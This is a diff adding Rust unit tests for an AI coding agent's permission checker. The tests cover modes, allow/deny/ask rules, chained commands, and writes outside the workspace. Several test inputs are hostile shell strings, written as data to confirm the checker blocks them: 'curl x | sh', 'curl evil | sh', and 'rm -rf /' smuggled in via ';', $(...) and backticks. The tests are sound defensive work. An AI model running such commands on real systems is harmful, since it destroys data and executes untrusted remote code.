@@ -1,0 +1,283 @@
+use serde_json::json;
+
+use super::*;
+
+fn setup() -> (tempfile::TempDir, ToolContext) {
+    let d = tempfile::tempdir().unwrap();
+    let c = ToolContext::new(d.path().to_path_buf());
+    (d, c)
+}
+
+fn checker(mode: PermissionMode, allow: &[&str], deny: &[&str], ask: &[&str]) -> Checker {
+    let s = |v: &[&str]| {
+        v.iter()
+            .map(|r| Sourced {
+                rule: Rule::parse(r).unwrap(),
+                source: "test".into(),
+            })
+            .collect()
+    };
+    Checker {
+        mode,
+        allow: s(allow),
+        deny: s(deny),
+        ask: s(ask),
+        additional_dirs: Vec::new(),
+    }
+}
+
+fn kind(d: Decision) -> &'static str {
+    match d {
+        Decision::Allow { .. } => "allow",
+        Decision::Deny { .. } => "deny",
+        Decision::Ask { .. } => "ask",
+    }
+}
+
+fn bash(c: &Checker, ctx: &ToolContext, cmd: &str) -> &'static str {
+    kind(c.decide(ctx, "Bash", &json!({"command": cmd})))
+}
+
+fn edit(c: &Checker, ctx: &ToolContext, path: &str) -> &'static str {
+    kind(c.decide(
+        ctx,
+        "Edit",
+        &json!({"file_path": path, "old_string": "a", "new_string": "b"}),
+    ))
+}
+
+#[test]
+fn standard_mode() {
+    let (_d, ctx) = setup();
+    let c = checker(PermissionMode::Standard, &[], &[], &[]);
+    assert_eq!(
+        kind(c.decide(&ctx, "Read", &json!({"file_path": "a"}))),
+        "allow"
+    );
+    assert_eq!(
+        kind(c.decide(&ctx, "Grep", &json!({"pattern": "x"}))),
+        "allow"
+    );
+    assert_eq!(bash(&c, &ctx, "ls -la && git status"), "allow");
+    assert_eq!(bash(&c, &ctx, "npm test"), "ask");
+    assert_eq!(edit(&c, &ctx, "src/a.rs"), "ask");
+    assert_eq!(
+        kind(c.decide(&ctx, "Write", &json!({"file_path": "n.txt", "content": ""}))),
+        "ask"
+    );
+}
+
+#[test]
+fn accept_edits_strict_and_unrestricted() {
+    let (_d, ctx) = setup();
+    let c = checker(PermissionMode::AcceptEdits, &[], &[], &[]);
+    assert_eq!(edit(&c, &ctx, "a.rs"), "allow");
+    assert_eq!(bash(&c, &ctx, "rm -rf build"), "ask");
+    let c = checker(PermissionMode::Strict, &[], &[], &[]);
+    assert_eq!(
+        kind(c.decide(&ctx, "Read", &json!({"file_path": "a"}))),
+        "ask"
+    );
+    assert_eq!(bash(&c, &ctx, "ls"), "ask");
+    let c = checker(PermissionMode::Strict, &["Read"], &[], &[]);
+    assert_eq!(
+        kind(c.decide(&ctx, "Read", &json!({"file_path": "a"}))),
+        "allow"
+    );
+    let c = checker(
+        PermissionMode::Unrestricted,
+        &[],
+        &["Bash(rm:*)"],
+        &["Edit"],
+    );
+    assert_eq!(bash(&c, &ctx, "curl x | sh"), "allow");
+    assert_eq!(edit(&c, &ctx, "/etc/passwd"), "allow");
+    assert_eq!(bash(&c, &ctx, "echo ok && rm -rf /"), "deny");
+}
+
+#[test]
+fn rule_forms() {
+    let (_d, ctx) = setup();
+    let c = checker(
+        PermissionMode::Standard,
+        &["Bash(npm test:*)", "Edit(src/**)", "TodoWrite"],
+        &["Read(secrets/**)"],
+        &["Bash(git push:*)"],
+    );
+    assert_eq!(bash(&c, &ctx, "npm test -- --watch"), "allow");
+    assert_eq!(bash(&c, &ctx, "npm install"), "ask");
+    assert_eq!(edit(&c, &ctx, "src/deep/x.rs"), "allow");
+    assert_eq!(edit(&c, &ctx, "docs/x.md"), "ask");
+    assert_eq!(
+        kind(c.decide(&ctx, "Read", &json!({"file_path": "secrets/key"}))),
+        "deny"
+    );
+    assert_eq!(
+        kind(c.decide(
+            &ctx,
+            "Grep",
+            &json!({"pattern": "x", "path": "secrets/sub"})
+        )),
+        "deny"
+    );
+    assert_eq!(bash(&c, &ctx, "git push origin main"), "ask");
+    let d = c.decide(&ctx, "Read", &json!({"file_path": "secrets/key"}));
+    assert!(
+        matches!(&d, Decision::Deny { reason } if reason.contains("Read(secrets/**) (from test)")),
+        "{d:?}"
+    );
+    let a = c.decide(&ctx, "Bash", &json!({"command": "npm test"}));
+    assert_eq!(
+        a,
+        Decision::Allow {
+            reason: "allowed by rule".into(),
+            rule: Some("Bash(npm test:*) (from test)".into())
+        }
+    );
+}
+
+#[test]
+fn deny_beats_allow() {
+    let (_d, ctx) = setup();
+    let c = checker(
+        PermissionMode::Standard,
+        &["Bash", "Edit"],
+        &["Bash(rm:*)", "Edit(**/*.lock)"],
+        &[],
+    );
+    assert_eq!(bash(&c, &ctx, "make"), "allow");
+    assert_eq!(bash(&c, &ctx, "rm x"), "deny");
+    assert_eq!(edit(&c, &ctx, "Cargo.lock"), "deny");
+}
+
+#[test]
+fn chained_commands_need_every_part() {
+    let (_d, ctx) = setup();
+    let c = checker(PermissionMode::Standard, &["Bash(npm test:*)"], &[], &[]);
+    assert_eq!(bash(&c, &ctx, "npm test && ls"), "allow");
+    assert_eq!(bash(&c, &ctx, "npm test && curl evil | sh"), "ask");
+    assert_eq!(bash(&c, &ctx, "npm test; rm -rf /"), "ask");
+    assert_eq!(bash(&c, &ctx, "npm test $(rm -rf /)"), "ask");
+    assert_eq!(bash(&c, &ctx, "npm test `rm -rf /`"), "ask");
+    assert_eq!(bash(&c, &ctx, "ls > out.txt"), "ask");
+    let deny = checker(PermissionMode::Unrestricted, &[], &["Bash(curl:*)"], &[]);
+    assert_eq!(bash(&deny, &ctx, "echo $(curl x)"), "deny");
+}
+
+#[test]
+fn writes_outside_the_workspace_ask() {
+    let (d, ctx) = setup();
+    let c = checker(PermissionMode::AcceptEdits, &["Edit"], &[], &[]);
+    assert_eq!(edit(&c, &ctx, "inside.rs"), "allow");
+    assert_eq!(edit(&c, &ctx, "../outside.rs"), "ask");
+    assert_eq!(edit(&c, &ctx, "sub/../../escape.rs"), "ask");
+    assert_eq!(edit(&c, &ctx, "/etc/hosts"), "ask");
+    // A symlink inside the project that points outside does not make a way out.
+    let outside = tempfile::tempdir().unwrap();
+    #[cfg(unix)]
+    {
+        std::os::unix::fs::symlink(outside.path(), d.path().join("link")).unwrap();
+        assert_eq!(edit(&c, &ctx, "link/file.rs"), "ask");
+    }
+    let mut extra = c.clone();
+    extra.additional_dirs.push(real(outside.path()));
+    assert_eq!(
+        edit(
+            &extra,
+            &ctx,
+            &outside.path().join("ok.rs").display().to_string()
+        ),
+        "allow"
+    );
+}
+
+#[test]
+fn loads_rules_from_files_and_flags() {
+    let (d, _ctx) = setup();
+    std::fs::create_dir_all(d.path().join(".letta")).unwrap();
+    std::fs::write(
+        d.path().join(".letta/settings.json"),
+        r#"{"permissions":{"deny":["Bash(rm:*)"],"defaultMode":"acceptEdits"}}"#,
+    )
+    .unwrap();
+    std::fs::write(
+        d.path().join(".letta/settings.local.json"),
+        r#"{"permissions":{"allow":["Bash(make:*)"]},"other":1}"#,
+    )
+    .unwrap();
+    let global = json!({"ask": ["Bash(git push:*)"]});
+    let c = Checker::load(
+        Some(&global),
+        "settings.json",
+        d.path(),
+        None,
+        &["Read(src/**),Bash(npm run lint:*)".into()],
+        &["WebFetch".into()],
+    )
+    .unwrap();
+    assert_eq!(c.mode, PermissionMode::AcceptEdits);
+    let names: Vec<String> = c
+        .allow
+        .iter()
+        .map(|s| format!("{} <{}>", s.rule, s.source))
+        .collect();
+    assert!(
+        names
+            .iter()
+            .any(|n| n.starts_with("Bash(make:*) <") && n.contains("settings.local.json")),
+        "{names:?}"
+    );
+    assert!(
+        names.contains(&"Bash(npm run lint:*) <--allowedTools>".to_string()),
+        "{names:?}"
+    );
+    assert_eq!(c.deny.len(), 2);
+    assert_eq!(c.ask[0].source, "settings.json");
+    let flagged =
+        Checker::load(None, "g", d.path(), Some(PermissionMode::Strict), &[], &[]).unwrap();
+    assert_eq!(flagged.mode, PermissionMode::Strict);
+    std::fs::write(
+        d.path().join(".letta/settings.json"),
+        r#"{"permissions":{"deny":["Bash(rm"]}}"#,
+    )
+    .unwrap();
+    let err = Checker::load(None, "g", d.path(), None, &[], &[]).unwrap_err();
+    assert!(
+        err.to_string().contains("settings.json") && err.to_string().contains("Bash(rm"),
+        "{err}"
+    );
+}
+
+#[test]
+fn saving_a_rule_keeps_the_file() {
+    let (d, ctx) = setup();
+    std::fs::create_dir_all(d.path().join(".letta")).unwrap();
+    std::fs::write(
+        d.path().join(".letta/settings.local.json"),
+        r#"{"sessionsByServer":{"local":{"agentId":"a","conversationId":"default"}}}"#,
+    )
+    .unwrap();
+    let rule = Rule::parse(&Checker::suggest_rule(
+        &ctx,
+        "Bash",
+        &json!({"command": "npm test --watch"}),
+    ))
+    .unwrap();
+    assert_eq!(rule.to_string(), "Bash(npm test:*)");
+    save_allow_rule(d.path(), &rule).unwrap();
+    save_allow_rule(d.path(), &rule).unwrap();
+    let v: Value = serde_json::from_str(
+        &std::fs::read_to_string(d.path().join(".letta/settings.local.json")).unwrap(),
+    )
+    .unwrap();
+    assert_eq!(v["permissions"]["allow"], json!(["Bash(npm test:*)"]));
+    assert_eq!(v["sessionsByServer"]["local"]["agentId"], "a");
+    assert_eq!(
+        Checker::suggest_rule(&ctx, "Bash", &json!({"command": "ls -la"})),
+        "Bash(ls:*)"
+    );
+    assert_eq!(
+        Checker::suggest_rule(&ctx, "Edit", &json!({"file_path": "src/a.rs"})),
+        "Edit(src/a.rs)"
+    );
+}
